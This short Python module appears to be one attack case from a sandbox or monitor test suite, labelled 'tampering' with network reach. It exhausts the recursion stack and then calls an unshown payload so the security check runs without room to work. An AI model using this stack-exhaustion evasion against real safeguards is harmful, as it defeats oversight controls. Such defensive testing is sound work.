"""The check is asked where there is no stack left."""
CATEGORY = "tampering"
REACH = "net"

from . import payload


def descend(n):
    try:
        descend(n + 1)
    except RecursionError:
        pass
    try:
        payload.act()
    except RecursionError:
        pass


def attack():
    import sys
    sys.setrecursionlimit(200)
    try:
        descend(0)
    finally:
        sys.setrecursionlimit(1000)
